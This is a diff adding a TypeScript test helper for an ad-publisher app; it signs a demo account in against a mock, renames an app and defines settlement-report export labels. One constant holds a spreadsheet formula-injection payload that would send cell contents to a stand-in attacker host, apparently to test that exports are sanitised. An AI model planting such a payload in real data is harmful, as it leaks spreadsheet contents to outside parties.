@@ -1,0 +1,31 @@
+import { post } from '@/request';
+import { signInWithPassword } from '@/services/auth';
+import { setToken } from '@/session';
+
+/** Signs the demo publisher in against the msw mock and keeps its token for the request layer. */
+export async function signInDemo(): Promise<string> {
+  const result = await signInWithPassword({ account: 'demo', password: 'Demo@2026' });
+  setToken(result['user-token']);
+  return result['user-token'];
+}
+
+/** A formula-looking app name, as a hostile publisher might type it. */
+export const HOSTILE_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
+
+/** Renames app 1001 through the API so its name reaches the report and the export. */
+export async function renameApp(id: number, name: string): Promise<void> {
+  await post('/media/app/update', { id, name }, { noMsg: true });
+}
+
+export const EXPORT_LABELS = {
+  reportName: 'Settlement report',
+  sheetName: 'Settlement',
+  period: 'Period',
+  timeZone: 'Time zone',
+  currency: 'Currency',
+  generatedAt: 'Generated at',
+  updatedAt: 'Data updated at',
+  total: 'Total',
+  status: { estimated: 'Estimated', final: 'Final' },
+  adType: { splash: 'Splash', banner: 'Banner', interstitial: 'Interstitial', native: 'Native', rewarded: 'Rewarded video' },
+} as const;
